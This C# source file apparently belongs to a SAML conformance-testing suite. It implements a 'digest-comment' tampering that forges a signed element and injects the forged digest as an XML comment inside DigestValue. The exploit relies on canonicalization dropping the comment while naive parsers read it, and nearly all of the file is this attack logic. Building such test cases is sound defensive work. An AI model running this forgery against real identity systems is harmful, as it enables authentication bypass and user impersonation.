using Conformance.Saml.Forging;
using Conformance.Saml.Signing;

namespace Conformance.Saml.Tamperings.Attacks;

/// <summary>The forged digest as a comment inside the DigestValue.</summary>
internal sealed class DigestComment(TamperingArguments arguments) : Tampering
{
    public static CatalogueEntry Entry { get; } = new(
        new TamperingDescription(
            "digest-comment",
            "Forges the signed element and writes its digest as a comment into the DigestValue: canonicalization drops "
            + "the comment before the signature is checked, a reader of the first node takes it for the digest.",
            "The IdP's SignedInfo verifies; the comment is the digest of the forged element.",
            [new("position", "Before or behind the genuine digest.", ["first", "last"]), Impersonation.Parameter]),
        arguments => new DigestComment(arguments));

    public override string Name => "digest-comment";

    public override void AfterSigning(Workpiece work)
    {
        var forgery = new InPlaceForgery(arguments, work, stripOuter: false);
        var template = SignatureTemplate.From(work.Draft);
        foreach (var element in SignedPlaces.Signed(work, "all"))
        {
            var signature = Dom.Signature(element)!;
            var digest = Convert.ToBase64String(XmlSigner.Digest(element, template, signature));
            var value = XmlSigner.Descendant(signature, "DigestValue");
            var comment = work.Document.CreateComment(digest);
            value.InsertBefore(comment, arguments.Text("position") == "first" ? value.FirstChild : null);
        }

        forgery.ClaimPotency();
    }
}
